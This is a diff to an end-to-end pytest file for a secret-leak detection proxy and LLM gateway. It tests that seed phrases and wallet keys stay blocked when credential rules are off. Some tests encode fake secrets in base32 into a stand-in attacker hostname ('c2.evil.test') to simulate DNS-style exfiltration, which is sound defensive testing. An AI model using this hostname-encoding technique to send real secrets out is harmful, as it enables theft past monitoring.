@@ -12,6 +12,7 @@ import secrets
 import pytest
 
 from detect_fixtures import *  # noqa: F401,F403
+from detect_fixtures import fresh_key
 from e2e_helpers import REPO, requests_session
 from llm_fixtures import *  # noqa: F401,F403
 from llm_fixtures import anthropic_client, gateway_url
@@ -130,6 +131,45 @@ def test_crypto_keys_are_blocked_by_default(detect_proxy, detect_up, kind):
     _no_leak(p, value)
 
 
+def test_the_families_keep_their_actions_with_the_credential_rules_off(detect_proxy, detect_up):
+    """`outbound_secrets: off` turns the credential rules off, not the families: a seed phrase is
+    still refused (crypto_keys: block), data in a hostname still warned; a key passes."""
+    label = base64.b32encode(b"DB_PASSWORD=" + secrets.token_hex(10).encode()).decode().rstrip("=").lower()
+    host = f"{label}.c2.evil.test"
+    p = detect_proxy({"detect": {"outbound_secrets": "off"},
+                      "resolve": {f"{host}:80": f"127.0.0.1:{detect_up.http_port}"}})
+    phrase, tag = seed_phrase(), detect_up.new_tag()
+    r = _post(p, tag, f'{{"wallet": "{phrase}"}}')
+    assert r.status_code == 403 and r.headers["x-airlock-rule"] == "bip39_seed_phrase", (r.status_code, r.text)
+    assert detect_up.wait_settled(tag) == []
+    key, tag = fresh_key("github"), detect_up.new_tag()
+    assert _post(p, tag, f'{{"token": "{key.text}"}}').status_code == 200
+    with requests_session(p) as s:
+        s.get(f"http://{host}/t/{detect_up.new_tag()}", timeout=20)
+    t = wait_threats(p, lambda t: t.get("pattern") == "hostname_exfil")[0]
+    assert t["action"] == "warned", t
+    assert not read_threats(p, lambda t: t.get("pattern") == key.rule)
+    _no_leak(p, phrase)
+
+
+def test_a_prompt_keeps_the_families_with_llm_prompt_secrets_off(llm_gateway, llm_up):
+    """`llm_prompt_secrets: off` lets credentials in prompts through; a wallet key is still refused."""
+    import anthropic
+
+    p = llm_gateway({"detect": {"llm_prompt_secrets": "off"}})
+    c = anthropic_client(gateway_url(p))
+    key = fresh_key("github")
+    r = llm_up.reply(text="ok")
+    c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
+                      messages=[{"role": "user", "content": r.prompt(f"use {key.text}")}])
+    assert key.text.encode() in llm_up.wait_received(r.tag)[0].body
+    r = llm_up.reply(text="never")
+    with pytest.raises(anthropic.PermissionDeniedError):
+        c.messages.create(model="claude-sonnet-4-5", max_tokens=8,
+                          messages=[{"role": "user", "content": r.prompt(f"my wallet: {wif()}")}])
+    assert llm_up.received(r.tag) == []
+
+
 def test_published_test_values_pass(detect_proxy, detect_up):
     """Stripe's 4242… card and the all-'abandon' phrase are what agents put in test code."""
     p = detect_proxy()
@@ -141,7 +181,9 @@ def test_published_test_values_pass(detect_proxy, detect_up):
 
 
 def test_data_in_a_hostname_is_flagged(detect_proxy, detect_up):
-    label = base64.b32encode(b"AWS_SECRET=" + secrets.token_bytes(12)).decode().rstrip("=").lower()
+    # base32 of text: every draw is flagged (the family's recall on random bytes is measured by
+    # the scan crate's tests)
+    label = base64.b32encode(b"AWS_SECRET=" + secrets.token_hex(10).encode()).decode().rstrip("=").lower()
     host = f"{label}.c2.evil.test"
     p = detect_proxy({"resolve": {f"{host}:80": f"127.0.0.1:{detect_up.http_port}"}})
     with requests_session(p) as s:
